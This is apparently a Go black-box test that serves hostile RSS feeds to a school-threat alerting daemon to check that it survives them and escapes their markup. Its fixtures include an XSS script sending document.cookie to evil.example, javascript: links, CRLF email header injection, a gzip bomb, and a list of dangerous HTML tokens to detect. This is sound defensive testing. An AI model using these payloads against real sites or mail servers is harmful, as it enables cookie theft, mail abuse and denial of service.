package blackbox

import (
	"compress/gzip"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/schoolwatch/schoolwatch/alerts/smtptest"
)

// maxRSS bounds the daemon's peak resident memory while hostile feeds are
// polled every second (fetches are capped at 10 MiB).
const maxRSS = 300 << 20

// hostile is one feed the harness serves to hurt the daemon.
type hostile struct {
	id      string
	handler http.Handler
	items   []item
	// errs: its polls must fail and show in schoolwatch_polls_total.
	errs bool
	// maxItems: the feed's max_items (0: the default, 1,000).
	maxItems int
}

func hostileFeeds() []hostile {
	far := time.Date(2999, 1, 1, 0, 0, 0, 0, time.UTC)
	epoch := time.Unix(0, 0)
	var many []item
	for i := range 10000 {
		it := item{GUID: fmt.Sprintf("bulk-%d", i), Title: fmt.Sprintf("Parish notice %d", i), Text: "Bins are collected on Tuesday.", Link: fmt.Sprintf("https://bulk.example.org/%d", i)}
		if i%2500 == 0 {
			it = threatItem("river", fmt.Sprintf("TKbulk-%d", i))
			it.GUID = fmt.Sprintf("bulk-%d", i)
		}
		many = append(many, it)
	}
	script := threatItem("oak", "TKscript-1")
	script.Title = "Oakfield Primary School threat TKscript-1 <script>alert('x')</script><img src=x onerror=alert(1)>\r\nBcc: victim@evil.example\r\nSubject: pwned"
	script.Text = "<script>document.location='https://evil.example/'+document.cookie</script> They will hurt someone at Oakfield Primary School. TKscript-1\r\nX-Injected: yes"
	script.Link = "javascript:alert(document.domain)"
	future := threatItem("river", "TKfuture-1")
	future.Published = far
	old := threatItem("oak", "TKepoch-1")
	old.Published = epoch
	dupA := threatItem("oak", "TKdup-1")
	dupA.GUID = "same-guid"
	dupB := threatItem("oak", "TKdup-2")
	dupB.GUID = "same-guid"
	dupB.Link = "https://news.example.org/other"

	return []hostile{
		// gofeed recovers what it can from broken XML: the item alerts.
		{id: "malformed", handler: text("application/rss+xml",
			`<?xml version="1.0"?><rss version="2.0"><channel><title>x</title><item><title>Oakfield Primary School knife TKbad-1</titl><description>unclosed`)},
		{id: "encoding", handler: text("application/rss+xml; charset=utf-16",
			`<?xml version="1.0" encoding="ISO-8859-1"?><rss version="2.0"><channel><title>Café</title><item><guid>enc-1</guid><title>Crème brûlée night – “quotes” at the village hall</title><description>Ünïcödé 🎉 declared as Latin-1</description></item></channel></rss>`)},
		{id: "klingon", handler: text("application/rss+xml",
			`<?xml version="1.0" encoding="x-klingon-42"?><rss version="2.0"><channel><title>x</title><item><guid>k-1</guid><title>qapla</title></item></channel></rss>`)},
		{id: "huge", errs: true, handler: http.HandlerFunc(hugeBody)},
		{id: "bomb", errs: true, handler: http.HandlerFunc(gzipBomb)},
		{id: "trickle", errs: true, handler: http.HandlerFunc(trickle)},
		{id: "loop", errs: true, handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, r.URL.Path+"?again", http.StatusFound)
		})},
		{id: "garbage", errs: true, handler: text("application/rss+xml", "\x00\x01\xff\xfe<<<>>>&&&;;\x1b[31m")},
		{id: "html", errs: true, handler: text("text/html", "<!doctype html><html><body><h1>Oakfield Primary School knife</h1></body></html>")},
		{id: "many", items: many, maxItems: len(many)}, // a big feed, read whole as configured
		{id: "script", items: []item{script}},
		{id: "dates", items: []item{future, old}},
		{id: "dups", items: []item{dupA}},
	}
}

func text(ct, body string) http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", ct)
		io.WriteString(w, body)
	})
}

// hugeBody streams up to 1 GB of feed-like bytes, stopping when the client goes.
func hugeBody(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/rss+xml")
	w.Header().Set("Content-Length", fmt.Sprint(1<<30))
	io.WriteString(w, `<?xml version="1.0"?><rss version="2.0"><channel><title>`)
	chunk := []byte(strings.Repeat("Oakfield Primary School knife ", 1<<10))
	for n := 0; n < 1<<30; n += len(chunk) {
		if _, err := w.Write(chunk); err != nil || r.Context().Err() != nil {
			return
		}
	}
}

// gzipBomb sends an endless run of compressed zeros (about 1000:1).
func gzipBomb(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/rss+xml")
	w.Header().Set("Content-Encoding", "gzip")
	zw, _ := gzip.NewWriterLevel(w, gzip.BestCompression)
	zeros := make([]byte, 1<<20)
	for range 1 << 10 { // 1 GiB decompressed
		if _, err := zw.Write(zeros); err != nil || r.Context().Err() != nil {
			return
		}
	}
	zw.Close()
}

// trickle sends a byte every 100ms, forever.
func trickle(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "application/rss+xml")
	io.WriteString(w, `<?xml version="1.0"?><rss version="2.0"><channel>`)
	t := time.NewTicker(100 * time.Millisecond)
	defer t.Stop()
	for {
		select {
		case <-r.Context().Done():
			return
		case <-t.C:
			if _, err := io.WriteString(w, " "); err != nil {
				return
			}
			w.(http.Flusher).Flush()
		}
	}
}

// TestHostileFeeds polls every hostile feed once a second next to a good
// one: the daemon does not crash, its memory stays bounded, the good feed
// still alerts, each failure shows in the metrics, and feed markup never
// reaches a mail unescaped.
func TestHostileFeeds(t *testing.T) {
	t.Parallel()
	dir := t.TempDir()
	fs := serveFeeds(t)
	srv := smtptest.Start(t)
	port := freePort(t)
	c := config{Dir: dir, Port: port, SMTP: srv.Addr, Feeds: []feedConfig{{ID: "good", URL: fs.URL + "/good.xml"}}}
	hs := hostileFeeds()
	for _, h := range hs {
		p := "/" + h.id + ".xml"
		if h.handler != nil {
			fs.Handle(p, h.handler)
		} else {
			fs.Set(p, h.items...)
		}
		c.Feeds = append(c.Feeds, feedConfig{ID: h.id, URL: fs.URL + p, Timeout: "2s", MaxItems: h.maxItems})
	}
	want := expect{}
	want.add("oak", "TKgood-1")
	fs.Add("/good.xml", threatItem("oak", "TKgood-1"))
	for _, tk := range []string{"TKbulk-0", "TKbulk-2500", "TKbulk-5000", "TKbulk-7500", "TKfuture-1"} {
		want.add("river", tk)
	}
	want.add("oak", "TKscript-1")
	want.add("oak", "TKdup-1")
	want.add("oak", "TKbad-1")

	d := start(t, c.write(t), port, nil)
	d.waitReady()
	waitMail(t, srv, want, 30*time.Second)
	for _, h := range hs {
		if !h.errs {
			continue
		}
		eventually(t, 20*time.Second, h.id+"'s failures in the metrics", func() bool {
			return d.metric("schoolwatch_polls_total", `feed="`+h.id+`"`, `result="error"`) >= 2
		})
	}
	// The same GUID with new content, and more good news: still exactly once,
	// and the good feed keeps alerting while the hostile ones keep failing.
	fs.Set("/dups.xml", item{GUID: "same-guid", Title: "Oakfield Primary School threat TKdup-2", Text: "A knife, different text TKdup-2", Link: "https://news.example.org/other"})
	fs.Add("/good.xml", threatItem("river", "TKgood-2"))
	want.add("river", "TKgood-2")
	l := waitMail(t, srv, want, 20*time.Second)
	polled := d.metric("schoolwatch_polls_total", `feed="dups"`, `result="ok"`)
	eventually(t, 10*time.Second, "two more polls of the duplicate-GUID feed", func() bool {
		return d.metric("schoolwatch_polls_total", `feed="dups"`, `result="ok"`) >= polled+2
	})
	eventually(t, 10*time.Second, "an empty outbox", func() bool { return d.metric("schoolwatch_outbox_depth") == 0 })

	if !d.running() || !d.ready() {
		t.Fatalf("the daemon is not running and ready: %v", d.err)
	}
	if rss := d.peakRSS(); rss > maxRSS || rss < 0 {
		t.Errorf("peak RSS %d MiB, want under %d MiB", rss>>20, maxRSS>>20)
	} else {
		t.Logf("peak RSS %d MiB", rss>>20)
	}
	for class, feed := range map[string]string{"too_large": "huge", "timeout": "trickle", "redirect": "loop", "not_feed": "html"} {
		if d.metric("schoolwatch_polls_total", `feed="`+feed+`"`, `class="`+class+`"`) == 0 {
			t.Errorf("feed %s: no error of class %s in the metrics", feed, class)
		}
	}
	if d.metric("schoolwatch_polls_total", `feed="bomb"`, `class="too_large"`)+d.metric("schoolwatch_polls_total", `feed="bomb"`, `class="parse"`) == 0 {
		t.Error("the gzip bomb is not counted as too_large or parse")
	}
	if n := d.metric("schoolwatch_items_total", `outcome="new"`) + d.metric("schoolwatch_items_total", `outcome="too_old"`); n < 10000 {
		t.Errorf("items recorded = %v, want the 10,000-item feed's", n)
	}
	d.stop()

	l = tally(t, srv.Messages())
	if tw := l.twice(); len(tw) > 0 || l.resent > 0 {
		t.Errorf("duplicates: %v, %d resends", tw, l.resent)
	}
	if u := l.unexpected(want); len(u) > 0 {
		t.Errorf("unexpected alerts (the 1970 item, a second copy of a GUID?): %v", u)
	}
	for _, m := range srv.Messages() {
		r := decode(t, m)
		for _, bad := range []string{"<script", "<img", "onerror", "javascript:"} {
			if strings.Contains(strings.ToLower(r.HTML), bad) {
				t.Errorf("mail to %s: HTML part contains %q", r.To, bad)
			}
		}
		for _, h := range []string{"Bcc", "X-Injected"} {
			if r.Header.Get(h) != "" {
				t.Errorf("mail to %s: injected header %s: %q", r.To, h, r.Header.Get(h))
			}
		}
		if strings.Contains(r.Subject, "pwned") || strings.ContainsAny(r.Subject, "\r\n") {
			t.Errorf("subject %q carries feed text", r.Subject)
		}
		if strings.Contains(r.Text, "TKscript-1") && !strings.Contains(r.HTML, "&lt;script&gt;") && strings.Contains(r.Text, "<script>") {
			t.Errorf("the title's markup is neither escaped nor removed in the HTML part")
		}
	}
	assertPrivateLogs(t, d.log.String(), "bring a knife", "Worrying post", "Parish notice", "document.cookie")
}
